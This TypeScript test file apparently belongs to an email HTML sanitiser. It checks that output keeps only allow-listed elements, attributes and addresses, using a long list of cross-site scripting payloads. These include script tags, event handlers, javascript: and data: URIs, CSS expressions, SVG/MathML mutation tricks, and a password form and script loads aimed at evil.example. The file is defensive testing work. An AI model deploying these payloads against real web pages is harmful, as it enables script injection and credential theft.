/** The allow-list against hostile HTML: what comes out is parsed again, and nothing but allowed elements, attributes and addresses may be there. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import * as fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { runs } from '../../test/support/share.ts';
import { cleaned, cleanHtml, TooMuchMarkup, textOfHtml } from './html.ts';

/** Written down anew, so that a change of the list is seen here. */
const TAGS = new Set(
  'a abbr address article b bdi bdo big blockquote br caption center cite code col colgroup dd del details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark ol p pre q s samp section small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(
  'style dir lang title align valign href target rel src alt width height color face size border cellpadding cellspacing bgcolor colspan rowspan nowrap scope span start type value cite datetime'.split(
    ' ',
  ),
);
const PROPERTY =
  /^(?:color|background-color|font-(?:family|size|style|weight)|line-height|text-(?:align|decoration|indent)|vertical-align|white-space|list-style-type|border(?:-collapse|-top|-right|-bottom|-left)?|(?:margin|padding)(?:-top|-right|-bottom|-left)?|width|height|max-width)$/;
const ADDRESS = /^(?:https?:\/\/|mailto:|tel:|cid:|data:image\/(?:png|jpe?g|gif|webp);base64,|[^:/?#]*$|[^:]*[/?#])/i;

function judge(html: string): void {
  const clean = cleanHtml(html);
  let text = '';
  const parser = new Parser({
    onopentag(name, attributes) {
      assert.ok(TAGS.has(name), `<${name}> in ${clean.slice(0, 200)}`);
      for (const [attribute, value] of Object.entries(attributes)) {
        assert.ok(ATTRIBUTES.has(attribute), `${attribute} in ${clean.slice(0, 200)}`);
        if (attribute === 'target') assert.equal(attributes.href === undefined || value === '_blank', true);
        if (['href', 'src', 'cite'].includes(attribute)) assertAddress(value);
        if (attribute === 'style') assertStyle(value);
      }
      if (name === 'a' && attributes.href !== undefined) assert.equal(attributes.rel, 'noopener noreferrer');
    },
    oncomment: (comment) => assert.fail(`comment ${comment}`),
    onprocessinginstruction: (name) => assert.fail(`instruction ${name}`),
    ontext: (piece) => {
      text += piece;
    },
  });
  parser.write(clean);
  parser.end();
  // a parser of another make must not see more: every < opens or closes an allowed element
  for (const [, name] of clean.matchAll(/<\/?([^\s>/]*)/g)) assert.ok(TAGS.has(name!.toLowerCase()), `<${name} in ${clean.slice(0, 200)}`);
  assert.ok(!clean.includes('\0'));
  assert.ok(!text.includes('\0'));
  assert.equal(cleanHtml(clean), clean, 'cleaning what is clean changes nothing');
}

function assertAddress(value: string): void {
  // what a browser passes over in a scheme: blanks and control characters
  const seen = [...value].filter((character) => character > ' ').join('');
  assert.match(seen, ADDRESS, value);
  assert.ok(
    !/^(?:javascript:|vbscript:|data:(?!image\/(?:png|jpe?g|gif|webp);base64,)|file:|blob:|about:|view-source:|livescript:|mocha:|jar:)/i.test(
      seen,
    ),
    value,
  );
  assert.ok(!seen.startsWith('//'), value);
}

function assertStyle(style: string): void {
  for (const declaration of style.split(';').filter(Boolean))
    assert.match(declaration.slice(0, declaration.indexOf(':')).trim(), PROPERTY, style);
  assert.ok(!/url|expression|import|javascript|behavio|binding|position|\\|\/\*|<|@/i.test(style), style);
}

const X = 'alert(1)';
const hostile: readonly string[] = [
  // script in every dress
  `<script>${X}</script>`,
  `<ScRiPt >${X}</sCrIpT >`,
  `<script src=//evil.example/x.js></script>`,
  `<script/src=x>${X}</script>`,
  `<scr<script>ipt>${X}</scr</script>ipt>`,
  `<<script>${X}//<</script>`,
  `<script\x20type="text/javascript">${X}</script\n>`,
  `<script>${X}`,
  `<script\x00>${X}</script>`,
  `<\x00script>${X}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${X}>">`,
  `<template><script>${X}</script></template>`,
  `<xss onafterscriptexecute=${X}><script>1</script>`,
  // handlers
  `<img src=x onerror=${X}>`,
  `<img src=x OnErRoR = "${X}">`,
  `<img/src=x/onerror=${X}>`,
  `<img src="x"onerror="${X}">`,
  `<img src=x\x0conerror=${X}>`,
  `<body onload=${X}>hello`,
  `<div onclick=${X} onmouseover=${X} onpointerenter=${X}>x</div>`,
  `<details open ontoggle=${X}>x</details>`,
  `<marquee onstart=${X}>x</marquee>`,
  `<video><source onerror=${X}></video>`,
  `<audio src=x onerror=${X}>`,
  `<input autofocus onfocus=${X}>`,
  `<select onfocus=${X} autofocus><option>x</select>`,
  `<textarea onfocus=${X}>x</textarea>`,
  `<a onbegin=${X} href=#>x</a>`,
  `<img """><script>${X}</script>">`,
  `<img src=x \`onerror=${X}>`,
  // javascript: and its relatives
  `<a href="javascript:${X}">x</a>`,
  `<a href="JaVaScRiPt:${X}">x</a>`,
  `<a href=" \n\tjavascript:${X}">x</a>`,
  `<a href="java\tscript:${X}">x</a>`,
  `<a href="java\nscript:${X}">x</a>`,
  `<a href="java&#x0A;script:${X}">x</a>`,
  `<a href="java&Tab;script&colon;${X}">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${X}">x</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${X}">x</a>`,
  `<a href="&#0000106avascript:${X}">x</a>`,
  `<a href="\x01javascript:${X}">x</a>`,
  `<a href="\x1fjavascript:${X}">x</a>`,
  `<a href="\u00a0javascript:${X}">x</a>`,
  `<a href="java\x00script:${X}">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>${X}</script>">x</a>`,
  `<a href="data:image/png;base64,AAAA">x</a>`,
  `<a href="feed:javascript:${X}">x</a>`,
  `<a href="view-source:javascript:${X}">x</a>`,
  `<a href="blob:https://x/1">x</a><a href="file:///etc/passwd">x</a><a href="about:blank">x</a>`,
  `<a href="//evil.example/x">x</a><img src="//evil.example/x">`,
  `<a href="https:\n//x" target=_top rel=opener>x</a>`,
  `<blockquote cite="javascript:${X}">x</blockquote><q cite="data:text/html,x">x</q>`,
  `<img src="javascript:${X}"><img lowsrc="javascript:${X}"><img dynsrc="javascript:${X}">`,
  `<img srcset="javascript:${X} 1x, x 2x" src=cid:a>`,
  `<table background="javascript:${X}"><td background="javascript:${X}">x</table>`,
  `<form action="javascript:${X}"><button formaction="javascript:${X}">x</button></form>`,
  `<isindex action="javascript:${X}" type=image>`,
  // data: with scripts inside
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<img src="data:image/svg+xml,<svg onload=${X}>">`,
  `<img src=" data:image/svg+xml;utf8,<svg/>">`,
  `<img src="data:image/png,x"><img src="data:text/html;base64,AAAA"><img src="data:image/png;charset=x;base64,AAAA">`,
  `<img src="DATA:IMAGE/SVG+XML;BASE64,AAAA"><img src="da\nta:image/svg+xml;base64,AAAA"><img src="&#x64;ata:image/svg+xml;base64,AA">`,
  // style sheets and style attributes
  `<style>@import 'https://evil.example/x.css';</style>x`,
  `<link rel=stylesheet href=https://evil.example/x.css>x`,
  `<div style="background:url(https://evil.example/x.gif)">x</div>`,
  `<div style="background-image:url('javascript:${X}')">x</div>`,
  `<div style="width:expression(${X})">x</div>`,
  `<div style="width:exp/**/ression(${X})">x</div>`,
  `<div style="xss:expr\\65ssion(${X})">x</div>`,
  `<div style="color:u\\72l(https://evil.example)">x</div>`,
  `<div style="behavior:url(x.htc);-moz-binding:url(x.xml#x)">x</div>`,
  `<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999">x</div>`,
  `<div style="position:absolute;margin:-9999px;opacity:0">x</div>`,
  `<div style="color:red;}</style><script>${X}</script>">x</div>`,
  `<div style="font-family:'x';background:url(//x)">x</div><div style="font-family:url(x)">x</div>`,
  `<div style="border:1px solid url(https://evil.example/)">x</div>`,
  `<div style="color:rgb(0,0,0);--x:url(1);content:'x';list-style:url(x)">x</div>`,
  `<div style="color:&quot;red&quot;;width:1px&quot; onclick=&quot;${X}">x</div>`,
  // foreign content and parser mutations
  `<svg onload=${X}>`,
  `<svg><script>${X}</script></svg>`,
  `<svg><animate onbegin=${X} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${X}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml;base64,AAAA#x"/></svg>`,
  `<svg><style><img src=x onerror=${X}></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${X}>">`,
  `<svg><foreignObject><iframe srcdoc="<script>${X}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${X}&gt;">`,
  `<math><mi><style><img src=x onerror=${X}></style></mi></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${X}>`,
  `<math href="javascript:${X}">x</math>`,
  `<table><style><!--</style><img src=x onerror=${X}>--></table>`,
  `<p id="</p><img src=x onerror=${X}>">x`,
  `<a title="&quot;&gt;&lt;img src=x onerror=${X}&gt;">x</a>`,
  `<a title='"><img src=x onerror=${X}>'>x</a>`,
  `<img alt="\`><script>${X}</script>" src=cid:a>`,
  `<listing>&lt;img src=x onerror=${X}&gt;</listing>`,
  `<xmp><img src=x onerror=${X}></xmp>`,
  `<plaintext><img src=x onerror=${X}>`,
  `<noembed><img src=x onerror=${X}></noembed><noframes><img src=x onerror=${X}></noframes>`,
  `<!--><img src=x onerror=${X}>-->`,
  `<!--[if gte IE 4]><script>${X}</script><![endif]-->`,
  `<!-- --!><img src=x onerror=${X}> -->`,
  `<![CDATA[<img src=x onerror=${X}>]]>`,
  `<?xml-stylesheet href="javascript:${X}"?>x`,
  `<!DOCTYPE html [<!ENTITY x "<script>">]>&x;`,
  `<comment><img src="</comment><img src=x onerror=${X}>"></comment>`,
  `<select><template><img src=x onerror=${X}></template></select>`,
  `<b><i></b></i><img src=x onerror=${X}><u>`,
  `&lt;script&gt;${X}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${X}`,
  // frames, objects, documents, forms, identity
  `<iframe src="javascript:${X}"></iframe><iframe srcdoc="<script>${X}</script>"></iframe>`,
  `<iframe srcdoc='&lt;script&gt;${X}&lt;/script&gt;'>`,
  `<frameset onload=${X}><frame src="javascript:${X}"></frameset>`,
  `<object data="javascript:${X}"><param name=x></object><embed src="javascript:${X}"><applet code=x></applet>`,
  `<meta http-equiv=refresh content="0;url=javascript:${X}">`,
  `<meta http-equiv="Set-Cookie" content="x=y"><meta charset=utf-7>+ADw-script+AD4-`,
  `<base href="https://evil.example/"><a href="x">x</a>`,
  `<form action=https://evil.example><input name=password type=password><button>Sign in</button></form>`,
  `<keygen autofocus onfocus=${X}><portal src=x><dialog open>x</dialog>`,
  `<div id=getElementById name=cookie class=admin data-x=y slot=z is=w contenteditable tabindex=1 accesskey=x>x</div>`,
  `<a href=https://x ping=https://evil.example download>x</a>`,
  `<x-custom-element onconnected=${X}>x</x-custom-element><blink>x</blink>`,
  `<html manifest=x><head><title></title><script>${X}</script></title></head><body background=x bgcolor=y>x`,
  // broken bytes and endless things
  `\0<b\0>x</b\0>\0<a href="\0https://x\0">x</a>`,
  `<a href="https://x" href="javascript:${X}">x</a><a HREF="javascript:${X}" href="https://x">x</a>`,
  `<img src="x" src="javascript:${X}"`,
  `<a href="https://x`,
  `<a href='${'x'.repeat(10_000)}'>x</a>`,
  `<${'a'.repeat(10_000)} onclick=${X}>`,
  `<div ${'x=y '.repeat(3_000)}onclick=${X}>x`,
  `${'<'.repeat(5_000)}script>${X}`,
  `${'<b><i>'.repeat(60)}<img src=x onerror=${X}>`,
  `\u202e<a href="https://x">gpj.exe</a>\u2028\u2029\ufeff`,
  `\ud800<b>x</b>\udc00`,
];

test(`${hostile.length} hostile texts leave nothing but allowed elements, attributes and addresses`, () => {
  assert.ok(hostile.length >= 60);
  for (const html of hostile) judge(html);
});

test('hostile texts in each other, cut at any place', () => {
  const hostileText = fc.constantFrom(...hostile.map((html) => html.slice(0, 400)));
  const piece = fc.oneof(
    hostileText,
    fc.constantFrom(
      '<p>',
      '</p>',
      '<table>',
      '<td>',
      '"',
      "'",
      '>',
      '<',
      '<!--',
      '-->',
      '&',
      '&#',
      '</',
      '<a href="',
      '<svg>',
      '<style>',
      '</style>',
      '\0',
      '`',
      '=',
      ' ',
    ),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 6 }), fc.nat(60), (pieces, cutAt) => {
      const text = pieces.join('');
      judge(text.slice(0, text.length - cutAt));
    }),
    { numRuns: runs(400), seed: 20260105 },
  );
});

test('cleaning what is clean changes nothing', () => {
  const character = fc.constantFrom(...'<>&"\'/=;:!-abiptd x1#\n\u00a0é😀'.split(''));
  fc.assert(
    fc.property(fc.array(character, { maxLength: 60 }), (characters) => {
      const once = cleanHtml(characters.join(''));
      assert.equal(cleanHtml(once), once);
    }),
    { numRuns: runs(1_500), seed: 20260105 },
  );
});

const mails: readonly [html: string, words: readonly string[]][] = [
  ['<p>Hello Kari,</p><p>the <b>printer</b> is on <i>fire</i>.</p>', ['Hello Kari,', 'the printer is on fire.']],
  ['<ul><li>one</li><li>two</li></ul><ol start=3><li>three</li></ol>', ['one', 'two', 'three']],
  [
    '<table border=1 cellpadding=4><tr><th>Item</th><td colspan=2 style="color:#333;text-align:right">12,50 €</td></tr></table>',
    ['Item', '12,50 €'],
  ],
  [
    '<a href="https://desk.example.org/x?a=1&amp;b=2">the desk</a> <a href="mailto:a@example.org">write</a> <a href="tel:+4712345678">ring</a>',
    ['the desk', 'write', 'ring', 'https://desk.example.org/x?a=1&b=2'],
  ],
  ['Ærlig talt &amp; så &lt;3 — 5 &gt; 4 😀 密码', ['Ærlig talt & så <3 — 5 > 4 😀 密码']],
  ['<blockquote cite="https://x">quoted<br>twice</blockquote>', ['quoted', 'twice']],
  ['<h1>Title</h1><h2>Below</h2><pre>code  here</pre><hr>', ['Title', 'Below', 'code  here']],
  [
    '<div class="MsoNormal" style="mso-fareast-language:NB;font-family:Calibri,sans-serif;font-size:11.0pt;margin:0cm"><o:p>Outlook</o:p> mail</div>',
    ['Outlook', 'mail'],
  ],
  ['<font color="#ff0000" face="Arial" size=2>red</font><center>middle</center>', ['red', 'middle']],
  ['<head><style>p{color:red}</style><title>no</title></head><body>body text</body>', ['body text']],
  ['<p>open<p>never<p>closed', ['open', 'never', 'closed']],
  ['a < b and c > d', ['a < b and c > d']],
];

test('benign mails keep their words', () => {
  for (const [html, words] of mails) {
    judge(html);
    const { text } = cleaned(html);
    for (const word of words) assert.ok(text.includes(word), `${word} in ${JSON.stringify(text)}`);
  }
});

test('what benign mails look like is kept: links, pictures of the message, colours, tables', () => {
  assert.equal(
    cleanHtml('<a href="https://x.example/?a=1&amp;b">x</a>'),
    '<a href="https://x.example/?a=1&amp;b" target="_blank" rel="noopener noreferrer">x</a>',
  );
  assert.equal(cleanHtml('<img src="cid:logo@x" alt="Logo" width="10">'), '<img src="cid:logo@x" alt="Logo" width="10" />');
  assert.equal(cleanHtml('<img src="data:image/png;base64,iVBORw0KGgo=">'), '<img src="data:image/png;base64,iVBORw0KGgo=" />');
  assert.equal(cleanHtml('<p style="color:#c00;position:fixed;margin:0 auto">x</p>'), '<p style="color:#c00;margin:0 auto">x</p>');
});

const nested = (depth: number): string => `${'<div>'.repeat(depth)}deep &amp; <b>`.replace('<b>', '') + '</div>'.repeat(depth);

const time = (html: string): number => {
  const from = performance.now();
  cleaned(html);
  return performance.now() - from;
};
test('128 elements in each other are kept, one more is too much and leaves the words only', () => {
  assert.match(cleanHtml(nested(128)), /^<div>.*deep/);
  assert.throws(() => cleanHtml(nested(129)), TooMuchMarkup);
  const { html, text } = cleaned(nested(129));
  assert.ok(!html.includes('<div'));
  assert.match(html, /^<pre>[^<]*<\/pre>$/);
  assert.match(text, /deep/);
});

test('50,000 elements are kept, one more is too much', () => {
  assert.equal(cleanHtml('<b>x</b>'.repeat(50_000)).length, 400_000);
  assert.throws(() => cleanHtml('<b>x</b>'.repeat(50_001)), TooMuchMarkup);
  assert.equal(cleaned('<b>x</b>'.repeat(50_001)).text.replaceAll(' ', ''), 'x'.repeat(50_001));
});

test('the words of what has too much markup hold no markup, however it is cut', () => {
  for (const html of hostile) {
    const { html: shown } = cleaned(`${'<div>'.repeat(200)}${html}`);
    judge(shown);
    assert.match(shown, /^<pre>[^<]*<\/pre>$/);
  }
});

test('no text takes more than in proportion (printed, not asserted)', () => {
  const shapes: Record<string, (times: number) => string> = {
    divs: (times) => '<div>'.repeat(times),
    spans: (times) => '<span>x</span>'.repeat(times),
    paragraphs: (times) => '<p>'.repeat(times),
    less: (times) => '<'.repeat(times),
    ampersands: (times) => '&'.repeat(times),
    attributes: (times) => `<p ${'a=b '.repeat(times)}>`,
    styles: (times) => `<p style="${'color:red;'.repeat(times)}">x`,
    comments: (times) => '<!--'.repeat(times),
    lists: (times) => '<ul><li>x</li></ul>'.repeat(times),
  };
  for (const [name, shape] of Object.entries(shapes)) {
    time(shape(2_000));
    const [short, long] = [time(shape(4_000)), time(shape(16_000))];
    console.log(`# ${name}: 4x the length takes ${(long / Math.max(short, 0.1)).toFixed(1)}x the time, ${Math.round(long)} ms`);
  }
});

test('plain text: paragraphs and lists as lines, links with their address', () => {
  assert.equal(textOfHtml('<p>a</p><p>b</p>'), 'a\n\nb');
  assert.equal(textOfHtml('<ul><li>a</li><li>b</li></ul>'), ' * a\n * b');
  assert.equal(textOfHtml('<a href="https://x.example/">here</a>'), 'here [https://x.example/]');
  assert.equal(textOfHtml('<h1>Big</h1>'), 'Big');
});
